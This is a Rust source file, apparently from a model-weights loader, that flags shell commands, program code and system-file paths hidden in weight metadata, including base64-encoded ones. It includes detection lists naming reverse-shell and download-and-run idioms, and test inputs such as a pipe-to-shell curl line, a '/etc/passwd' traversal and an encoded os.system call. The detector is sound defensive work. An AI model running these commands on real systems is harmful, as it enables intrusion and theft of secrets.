//! Whether the text that stands beside weights (descriptions, training notes) holds what only a shell, an
//! interpreter or a file system has a use for. A loader shows or ignores such text; nothing here says that
//! it is run.

use base64::Engine as _;

/// What was found in a text: the kind of anomaly.
pub type Found = &'static str;

/// A command line.
pub const COMMAND: Found = "metadata-command";
/// Statements of a program.
pub const PROGRAM: Found = "metadata-program";
/// A path to what belongs to the machine.
pub const PATH: Found = "metadata-path";

const COMMANDS: [&str; 20] = [
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "bash -c",
    "sh -c",
    "bash -i",
    "/bin/sh",
    "/bin/bash",
    "/dev/tcp/",
    "powershell",
    "cmd.exe",
    "cmd /c",
    "rm -rf /",
    "rm -rf ~",
    "chmod +x",
    "nc -e",
    "ncat -e",
    "mkfifo ",
    "certutil -urlcache",
];
const FETCHES: [&str; 4] = ["curl http", "curl -", "wget http", "wget -"];
const PROGRAMS: [&str; 22] = [
    "import os\n",
    "import os;",
    "import os,",
    "import subprocess",
    "import socket",
    "import ctypes",
    "import pty",
    "from os import",
    "from subprocess import",
    "__import__(",
    "os.system(",
    "os.popen(",
    "subprocess.",
    "eval(",
    "exec(",
    "<script",
    "javascript:",
    "base64.b64decode(",
    "b64decode(",
    "pickle.loads(",
    "marshal.loads(",
    "shell=true",
];
const PATHS: [&str; 8] = [
    "../../",
    "..\\..\\",
    "/etc/passwd",
    "/etc/shadow",
    "/proc/self/",
    ".ssh/",
    "file://",
    "c:\\windows\\",
];

/// Longest text that is looked at, and the shortest and longest run of letters that may encode another.
const LOOKED_AT: usize = 256 * 1024;
const ENCODED: usize = 40;
const DECODED: usize = 64 * 1024;

/// What a text holds, the gravest first.
pub fn of(text: &str) -> Option<Found> {
    let text = head(text);
    plain(text).or_else(|| encoded(text))
}

fn head(text: &str) -> &str {
    let mut end = text.len().min(LOOKED_AT);
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    &text[..end]
}

fn plain(text: &str) -> Option<Found> {
    let lower = text.to_lowercase();
    let has = |words: &[&str]| words.iter().any(|word| lower.contains(word));
    if has(&COMMANDS) || (has(&FETCHES) && (lower.contains('|') || lower.contains("&&"))) {
        Some(COMMAND)
    } else if has(&PROGRAMS) || lower.trim() == "import os" {
        Some(PROGRAM)
    } else if has(&PATHS) {
        Some(PATH)
    } else {
        None
    }
}

/// Programs and commands behind base64. Hashes and identifiers decode to no text.
fn encoded(text: &str) -> Option<Found> {
    let runs = text.split(|c: char| !c.is_ascii_alphanumeric() && !"+/=-_".contains(c));
    runs.filter(|run| run.len() >= ENCODED).take(64).find_map(|run| {
        let run = run.trim_end_matches('=');
        let run = &run[..run.len().min(DECODED) / 4 * 4];
        let standard = run.replace('-', "+").replace('_', "/");
        let bytes = base64::engine::general_purpose::STANDARD_NO_PAD.decode(standard).ok()?;
        let inner = String::from_utf8(bytes).ok()?;
        plain(&inner).filter(|found| *found != PATH)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_programs_and_paths_are_told_apart() {
        for (text, found) in [
            ("curl http://example.invalid/x | sh", COMMAND),
            ("run: bash -c 'id'", COMMAND),
            ("import os; os.system('id')", PROGRAM),
            ("__import__('os')", PROGRAM),
            ("<script>alert(1)</script>", PROGRAM),
            ("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2VjaG8gaGVsbG8gd29ybGQnKQ==", PROGRAM),
            ("../../../etc/passwd", PATH),
            ("file:///etc/hosts", PATH),
        ] {
            assert_eq!(of(text), Some(found), "{text}");
        }
    }

    #[test]
    fn what_trainers_write_is_none_of_them() {
        for text in [
            "pt",
            r#"{"resolution": [512, 512], "dir": "/home/me/train/img"}"#,
            "A model for evaluation (exec summary below). Import of goods is discussed.",
            "cafebabecafebabecafebabecafebabecafebabecafebabecafebabecafebabe",
            "sentence-transformers/all-MiniLM-L6-v2",
            "Quantized by llama.cpp, see https://example.invalid/models",
            "learning rate 1e-4 | steps 3000",
        ] {
            assert_eq!(of(text), None, "{text}");
        }
    }
}
